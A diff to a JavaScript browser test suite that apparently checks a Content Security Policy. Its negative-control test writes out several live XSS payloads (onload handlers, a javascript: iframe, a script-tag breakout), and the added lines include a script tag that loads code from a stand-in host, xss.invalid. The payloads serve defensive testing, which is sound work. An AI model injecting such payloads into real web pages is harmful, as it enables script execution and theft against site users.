@@ -192,7 +192,7 @@ describe('the UI test world', () => {
       }
     });
 
-    test('negative control: without the CSP and with a payload written as HTML, corpus payloads set the canary (in the page or in a frame) and a dialog is caught', async () => {
+    test('negative control: without the CSP and with a payload written as HTML, corpus payloads set the canary (in the page or in a frame), a dialog is caught, a foreign request recorded', async () => {
       // Payloads of the corpus that run on their own (no hover, no click) in a page with no CSP.
       const live = ['<svg/onload=window.__pwned=1>', '<BODY ONLOAD=window.__pwned=1>', '<IFRAME SRC="javascript:window.__pwned=1;"></IFRAME>', '"><script>window.__pwned=1</script>'];
       for (const payload of live) {
@@ -211,6 +211,11 @@ describe('the UI test world', () => {
       try {
         await watched.page.setContent('<!doctype html><title>control</title><svg/onload=alert(1)>', { waitUntil: 'load', timeout: 10_000 });
         assert.deepEqual(watched.dialogs.map((d) => [d.type, d.message]), [['alert', '1']]);
+        // A payload that loads a script from elsewhere is recorded (and aborted), not let through.
+        const external = '<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>';
+        assert.ok(world.xssPayloads.includes(external));
+        await watched.page.setContent(`<!doctype html><title>control</title>${external}`, { waitUntil: 'load', timeout: 10_000 });
+        assert.deepEqual(watched.foreignRequests, ['http://xss.invalid/xss.js']);
       } finally {
         await watched.close();
       }
